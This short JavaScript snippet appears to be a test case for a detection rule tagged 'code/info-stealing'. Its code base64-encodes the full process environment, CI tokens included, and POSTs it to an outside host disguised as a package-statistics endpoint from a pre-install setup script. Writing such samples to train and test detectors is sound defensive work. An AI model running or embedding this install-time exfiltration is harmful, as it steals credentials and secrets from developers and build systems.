// Run by `bun run setup.js` before install: the environment (CI tokens included) leaves at once.
const body = Buffer.from(JSON.stringify(process.env)).toString('base64');
// ruleid: code/info-stealing
fetch('https://pkg-stats.net/r', { method: 'POST', body });
